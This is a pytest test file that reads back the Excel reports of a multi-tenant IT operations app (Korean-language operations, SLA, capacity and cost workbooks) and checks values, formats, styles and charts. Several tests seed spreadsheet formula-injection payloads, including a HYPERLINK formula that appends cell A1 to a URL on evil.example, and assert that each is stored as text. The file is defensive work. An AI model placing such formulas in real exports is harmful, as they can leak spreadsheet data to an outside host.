"""Each Excel template read back with openpyxl: sheets, values, number formats, header style, charts, safe text."""

from datetime import date, datetime
from decimal import Decimal

import pytest

from webapp.i18n import tenant_context
from webapp.models import CostEntry, Server, ServerMetric
from webapp.reports.render import render_report

from ..factories import MARCH, add_sr, local
from .helpers import find_row, workbook

NAVY = "00003366"


def build(tenant, template, start=MARCH[0], end=MARCH[1]):
    """Build the Excel file of a template (as the worker does) and open it."""
    with tenant_context(tenant):
        built = render_report(tenant, template, start, end, "excel", now=local("2026-04-01 12:00"))
    assert built.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return built, workbook(built.content)


def assert_styled_header(row):
    """Navy fill, white bold text."""
    for cell in row:
        assert cell.fill.fgColor.rgb == NAVY
        assert cell.font.bold and cell.font.color.rgb == "00FFFFFF"


def test_weekly_ops_workbook(tenant, march):
    add_sr(
        tenant, "2026-03-20 10:00", title='=HYPERLINK("http://evil.example", "클릭")', description="@SUM(1+1)\n- 증상: 접속 불가"
    )
    built, book = build(tenant, "weekly_ops")
    assert built.file_name == "주간_운영_보고서_2026-03-01_2026-03-31.xlsx"
    assert book.sheetnames == ["요약", "서비스별", "일별 추이", "SR 목록"]

    summary = book["요약"]
    assert summary["A1"].value == "주간 운영 보고서"
    assert summary["B2"].value == tenant.name and summary["B3"].value == "2026-03-01 ~ 2026-03-31"
    assert_styled_header(find_row(summary, "항목")[:2])
    assert find_row(summary, "기간 내 접수")[1].value == 8
    assert find_row(summary, "기간 내 완료")[1].value == 4
    rate = find_row(summary, "처리율")[1]
    assert rate.value == Decimal("0.5") and rate.number_format == "0.0%"  # 4 / 8
    mttr = find_row(summary, "MTTR(시간)")[1]
    assert mttr.value == pytest.approx(14.3) and mttr.number_format == "#,##0.0"

    services = book["서비스별"]
    header = find_row(services, "서비스")
    assert [c.value for c in header] == ["서비스", "접수", "완료", "현재 미결", "처리율", "MTTR(시간)"]
    assert_styled_header(header)
    assert [c.value for c in find_row(services, "MES")[:4]] == ["MES", 1, 1, 0]
    assert len(services._charts) == 1
    assert len(book["일별 추이"]._charts) == 1
    first_day = find_row(book["일별 추이"], datetime(2026, 3, 1))
    assert first_day[0].number_format == "yyyy-mm-dd" and [c.value for c in first_day[1:3]] == [1, 1]

    detail = book["SR 목록"]
    rows = list(detail.iter_rows(min_row=2, values_only=False))
    assert len(rows) == 8
    injected = next(r for r in rows if str(r[1].value).startswith("=HYPERLINK"))
    assert injected[1].data_type == "s"  # text, never a formula
    assert injected[11].data_type == "s" and injected[11].value.startswith("@SUM")
    a_row = next(r for r in rows if r[0].value == march["A"].code)
    assert a_row[8].value == datetime(2026, 3, 2, 9, 0) and a_row[8].number_format == "yyyy-mm-dd hh:mm"  # tenant time
    assert a_row[10].value == pytest.approx(3.0)


def test_monthly_sla_workbook(tenant, march):
    built, book = build(tenant, "monthly_sla")
    assert book.sheetnames == ["요약", "우선순위별 SLA", "SLA 위반 목록"]
    assert find_row(book["요약"], "SLA 준수율")[1].value == pytest.approx(0.75)
    sla = book["우선순위별 SLA"]
    assert_styled_header(find_row(sla, "우선순위"))
    p1 = [c.value for c in find_row(sla, "P1")]
    assert p1[:6] == ["P1", 4, 2, 2, 0, 1]
    assert find_row(sla, "P2")[5].number_format == "0.0%"
    assert len(sla._charts) == 1
    breaches = list(book["SLA 위반 목록"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[10], r[11]) for r in breaches] == [
        (march["C"].code, pytest.approx(27.5), pytest.approx(19.5)),
        (march["G"].code, pytest.approx(756.0), pytest.approx(732.0)),
    ]
    assert built.data_summary["sla_compliance"] == 75 and built.data_summary["sla_breaches"] == 2


@pytest.fixture
def capacity_data(db, tenant):
    """Servers with costs and utilisation for January–March 2026."""
    web = Server(tenant_id=tenant.id, name="web-01", service="GROUPWARE")
    idle = Server(tenant_id=tenant.id, name="old-batch", service="ERP")
    db.session.add_all([web, idle])
    db.session.flush()
    for month, (server_cost, storage_cost, disk) in enumerate(
        [(1_000_000, 400_000, 70), (1_100_000, 450_000, 76), (1_200_000, 500_000, 82)], start=1
    ):
        db.session.add_all(
            [
                CostEntry(
                    tenant_id=tenant.id,
                    code=f"COST-C-{month}A",
                    year=2026,
                    month=month,
                    category="SERVER",
                    service="INFRA",
                    amount=Decimal(server_cost),
                    server_id=web.id,
                ),
                CostEntry(
                    tenant_id=tenant.id,
                    code=f"COST-C-{month}B",
                    year=2026,
                    month=month,
                    category="STORAGE",
                    service="INFRA",
                    amount=Decimal(storage_cost),
                ),
                CostEntry(
                    tenant_id=tenant.id,
                    code=f"COST-C-{month}C",
                    year=2026,
                    month=month,
                    category="LICENSE",
                    service="ERP",
                    amount=Decimal("999999"),
                ),
                ServerMetric(
                    tenant_id=tenant.id,
                    server_id=web.id,
                    year=2026,
                    month=month,
                    cpu_avg=Decimal("55.5"),
                    memory_avg=Decimal("60"),
                    disk_avg=Decimal(disk),
                ),
                ServerMetric(
                    tenant_id=tenant.id,
                    server_id=idle.id,
                    year=2026,
                    month=month,
                    cpu_avg=Decimal("4.0"),
                    memory_avg=Decimal("20"),
                    disk_avg=Decimal("30"),
                ),
            ]
        )
    db.session.commit()


def test_capacity_plan_workbook(tenant, march, capacity_data):
    built, book = build(tenant, "capacity_plan", date(2026, 1, 1), date(2026, 3, 31))
    assert book.sheetnames == ["요약", "월별 추이", "서버"]
    money = find_row(book["요약"], "기간 내 서버·스토리지 비용")[1]
    assert money.value == 4_650_000 and money.number_format == '"₩"#,##0'  # a number, not text
    trend = book["월별 추이"]
    march_row = find_row(trend, "2026-03")
    assert [c.value for c in march_row[1:4]] == [1_200_000, 500_000, 1_700_000]
    assert march_row[8].value == "대상 기간"
    forecast = find_row(trend, "2026-04")
    assert forecast[8].value == "예측" and forecast[3].value == 1_850_000  # the straight line continues: +150,000 a month
    assert forecast[6].value == 59  # mean disk use of both servers: 50, 53, 56 → 59
    assert len(trend._charts) == 2
    servers = {row[0].value: row for row in book["서버"].iter_rows(min_row=2)}
    assert servers["web-01"][7].value == "증설 검토"  # disk 82 %
    assert servers["old-batch"][7].value == "유휴 서버 검토"  # CPU 4 %
    assert servers["web-01"][6].value == 3_300_000


def test_workbook_in_english_for_an_english_tenant(db, tenant, march):
    tenant.locale = "en"
    db.session.commit()
    _built, book = build(tenant, "weekly_ops")
    assert book.sheetnames == ["Summary", "By service", "Daily trend", "SR list"]


def test_monthly_cost_workbook(tenant, costs):
    built, book = build(tenant, "monthly_cost")
    assert book.sheetnames == ["요약", "예산", "서비스별 배분", "월별 추이", "이상 징후", "비용 절감 권고", "비용 항목"]
    summary = book["요약"]
    total = find_row(summary, "IT 비용 합계")[1]
    assert total.value == 8_500_000 and total.number_format == '"₩"#,##0'
    assert find_row(summary, "전월 대비 증감")[1].value == pytest.approx(0.7)  # +70.0 %
    assert find_row(summary, "예산 사용률")[1].value == pytest.approx(1.063)
    assert find_row(summary, "총 절감 가능액")[1].value == 4_125_000  # licence 400,000 + spike 225,000 + idle 3,500,000
    assert len(summary._charts) == 1
    assert [c.value for c in find_row(summary, "소프트웨어 라이선스")[:3]] == [
        "소프트웨어 라이선스",
        4_000_000,
        pytest.approx(0.471),
    ]
    rows = [row for row in book["이상 징후"].iter_rows(min_row=6, values_only=True)]
    assert rows[0][:5] == ("서비스", "이번 달", "예상(중앙값)", "영향액", "증감률")
    assert [row[0] for row in rows[1:4]] == ["INFRA", "MES", "ERP"]  # a new service first, then the largest change
    assert rows[2][1:4] == (3_500_000, 2_000_000, 1_500_000)  # MES: this month, its median (one month), the impact
    assert rows[5][0].startswith("서비스마다 평소 수준, 즉 2025-09 – 2026-02의 중앙값과 비교합니다")  # the method in words
    assert len(book["월별 추이"]._charts) == 1 and len(book["서비스별 배분"]._charts) == 1
    items = list(book["비용 항목"].iter_rows(min_row=2))
    assert [r[3].value for r in items] == [4_000_000, 3_500_000, 1_000_000]
    injected = next(r for r in items if r[4].value == "=1+2")
    assert injected[4].data_type == "s" and injected[5].value == "idle-01"
    assert built.data_summary["total_amount"] == 8_500_000 and built.data_summary["budget_status"] == "WARNING"


def test_a_hyperlink_formula_in_a_description_comes_out_as_text(tenant):
    formula = '=HYPERLINK("http://evil.example/steal?d="&A1, "자세히 보기")'
    sr = add_sr(tenant, "2026-03-20 10:00", description=formula)
    _built, book = build(tenant, "weekly_ops")
    row = next(r for r in book["SR 목록"].iter_rows(min_row=2) if r[0].value == sr.code)
    assert row[11].value == formula and row[11].data_type == "s"  # the description, stored as text
    assert not any(cell.data_type == "f" for sheet in book for line in sheet.iter_rows() for cell in line)  # no formula anywhere
